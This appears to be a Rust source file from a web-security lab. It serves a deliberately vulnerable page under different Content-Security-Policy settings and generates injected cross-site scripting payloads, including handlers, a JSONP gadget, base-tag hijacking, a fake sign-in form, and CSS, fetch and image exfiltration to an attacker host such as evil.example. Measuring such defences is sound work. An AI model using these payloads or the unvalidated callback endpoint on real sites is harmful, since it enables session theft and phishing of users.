//! A vulnerable page under each policy: how much a Content-Security-Policy helps once content is injected.

use std::sync::Arc;

use axum::{
    Router,
    extract::{Query, State},
    http::{
        HeaderValue, StatusCode,
        header::{CACHE_CONTROL, CONTENT_SECURITY_POLICY, CONTENT_TYPE},
    },
    response::{Html, IntoResponse, Response},
    routing::get,
};
use lab_types::{Injection, Place, Policy, Strategy};
use serde::Deserialize;
use web::middleware::security_headers::page_policy;

use super::{Lab, attacker::Doors, recorder::Of, runs::Run};

/// A common policy: inline scripts are allowed because the page has some, and the destinations of data are not
/// restricted.
const WEAK: &str = "script-src 'self' 'unsafe-inline' 'unsafe-eval'; object-src 'none'";
/// No script of the page may write markup or set script addresses from text.
const TRUSTED_TYPES: &str = "require-trusted-types-for 'script'; trusted-types 'none'";

/// The path of the page. Its policy is that of the cell in the query.
pub const PAGE: &str = "/page";
/// The script that the page loads by a relative address; on the site's own host it does nothing.
const WIDGET: &str = "// The page's own widget.\n";
const RELATIVE: &str = "<script nonce=\"{nonce}\" src=\"widget.js?{address}\"></script>";

const HTML: &str = include_str!("assets/vulnerable.html");

/// The page, recorded like every attacked page.
pub fn router() -> Router<Arc<Lab>> {
    Router::new()
        .route(PAGE, get(page))
        .route("/widget.js", get(async || javascript(WIDGET.into())))
}

/// An additional endpoint of the page's own host: it responds with a script (JSONP), as old ones do.
pub async fn gadget(Query(Echo { callback }): Query<Echo>) -> Response {
    javascript(format!("{callback}({{}})"))
}

fn javascript(script: String) -> Response {
    ([(CONTENT_TYPE, "text/javascript; charset=utf-8")], script).into_response()
}

#[derive(Debug, Deserialize)]
pub struct Echo {
    callback: String,
}

async fn page(State(lab): State<Arc<Lab>>, Query(of): Query<Of>) -> Response {
    let (Some(run), Some(cell @ Place::Script { policy, injection })) = (of.run(&lab), of.cell()) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    let nonce = lab.tutorial.id();
    let smuggled = Smuggled::new(&lab, &run, cell, injection, of.at());
    let relative = if smuggled.relative { RELATIVE } else { "" };
    let html = HTML
        .replace("{markup}", &smuggled.markup)
        .replace("{relative}", relative)
        .replace("{text}", &escaped(&smuggled.text))
        .replace("{address}", &format!("run={}&amp;cell={cell}", run.id))
        .replace("{email}", &run.people.victim(Strategy::SessionCookie).email)
        .replace("{origin}", lab.sites.victim.as_str())
        .replace("{nonce}", &nonce);
    let mut response = ([(CACHE_CONTROL, "no-store")], Html(html)).into_response();
    if let Some(policy) = policy_of(policy, &nonce).and_then(|policy| HeaderValue::try_from(policy).ok()) {
        response.headers_mut().insert(CONTENT_SECURITY_POLICY, policy);
    }
    response
}

/// The value of the header.
fn policy_of(policy: Policy, nonce: &str) -> Option<String> {
    match policy {
        Policy::None => None,
        Policy::Weak => Some(WEAK.into()),
        Policy::Ours => Some(page_policy(nonce)),
        Policy::TrustedTypes => Some(format!("{}; {TRUSTED_TYPES}", page_policy(nonce))),
    }
}

/// The injected content.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Smuggled {
    /// The server writes this into the page. `{nonce}` is a placeholder where the page itself trusts the content.
    pub markup: String,
    /// The page's own script uses this, as if from an address.
    pub text: String,
    /// Whether a script with a relative address follows in the page.
    pub relative: bool,
}

impl Smuggled {
    fn new(lab: &Lab, run: &Run, cell: Place, injection: Injection, at: Option<usize>) -> Self {
        let address = format!("run={}&cell={cell}", run.id);
        let hit = match at {
            Some(at) => format!("{}/hit?{address}&at={at}", lab.sites.attacker),
            None => format!("{}/hit?{address}", lab.sites.attacker),
        };
        Self::of(injection, &address, lab.sites.attacker.as_str(), &hit)
    }

    /// `hit` is the endpoint of the attacker's host that receives loot.
    pub fn of(injection: Injection, address: &str, attacker: &str, hit: &str) -> Self {
        let doors = Doors::of(Strategy::SessionCookie);
        // Single quotes only, so that it can be placed in attributes.
        let act = format!(
            "fetch(location.origin+'{}?{address}',{{method:'POST'}})",
            doors.transfer
        );
        let send = |how: &str| {
            format!(
                "fetch(location.origin+'{}?{address}').then(a=>a.text()).then(secret=>{how})",
                doors.me
            )
        };
        let markup = |markup: String| Self {
            markup,
            ..Self::default()
        };
        let text = |text: String| Self {
            text,
            ..Self::default()
        };
        let trusted = |code: String| markup(format!("<script nonce=\"{{nonce}}\">{code}</script>"));
        let echo: String = url::form_urlencoded::byte_serialize(format!("{act};void").as_bytes()).collect();
        let gadget = format!("/gadget.js?callback={echo}");
        match injection {
            Injection::InlineHandler => {
                markup(format!("<img alt=\"\" src=\"/assets/none\" onerror=\"{act}\">"))
            }
            Injection::InlineScript => markup(format!("<script>{act}</script>")),
            Injection::ForeignScript => markup(format!(
                "<script src=\"{attacker}/hosted/widget.js?{address}\"></script>"
            )),
            Injection::Gadget => markup(format!("<script src=\"{gadget}\"></script>")),
            Injection::ScriptLink => markup(format!("<a href=\"javascript:void({act})\">My page</a>")),
            Injection::Base => Self {
                // What follows it is part of the page, and would be there without it.
                markup: format!("<base href=\"{attacker}/hosted/\">"),
                relative: true,
                ..Self::default()
            },
            Injection::HtmlSink => text(format!("<img alt=\"\" src=\"/assets/none\" onerror=\"{act}\">")),
            Injection::UrlSink => text(gadget),
            Injection::Eval => text(act),
            Injection::Form => markup(format!(
                "<form method=\"post\" action=\"{hit}\"><input name=\"password\" value=\"what the visitor types\">\
                 <button>Sign in again</button></form>"
            )),
            Injection::Style => markup(format!(
                "<style>[name=email][value^=ada]{{background:url('{hit}&what=ada')}}</style>"
            )),
            Injection::FetchHome => trusted(send(&format!(
                "fetch('{hit}',{{method:'POST',mode:'no-cors',body:secret}})"
            ))),
            Injection::ImageHome => trusted(send(&format!(
                "new Image().src='{hit}&what='+encodeURIComponent(secret)"
            ))),
            Injection::LeaveHome => trusted(send(&format!(
                "location='{hit}&what='+encodeURIComponent(secret)"
            ))),
            Injection::Act => trusted(act),
        }
    }
}

/// Escapes text for the value of an attribute.
fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('"', "&quot;")
        .replace('<', "&lt;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ours_is_the_policy_of_our_pages_and_trusted_types_come_on_top() {
        assert_eq!(policy_of(Policy::None, "n"), None);
        assert_eq!(policy_of(Policy::Ours, "n"), Some(page_policy("n")));
        let with = policy_of(Policy::TrustedTypes, "n").expect("a policy");
        assert!(with.starts_with(&page_policy("n")));
        assert!(with.contains("require-trusted-types-for"));
    }

    #[test]
    fn only_what_the_page_trusts_has_its_nonce() {
        for injection in Injection::ALL {
            let smuggled = Smuggled::of(
                *injection,
                "run=1&cell=2",
                "https://evil.example",
                "https://evil.example/hit",
            );
            assert_ne!(smuggled, Smuggled::default(), "{}", injection.slug());
            let is_trusted = matches!(
                injection,
                Injection::FetchHome | Injection::ImageHome | Injection::LeaveHome | Injection::Act
            );
            assert_eq!(
                smuggled.markup.contains("{nonce}"),
                is_trusted,
                "{}",
                injection.slug()
            );
        }
    }

    #[test]
    fn text_stays_within_its_attribute() {
        assert_eq!(escaped("<a b=\"c&d\">"), "&lt;a b=&quot;c&amp;d&quot;>");
    }
}
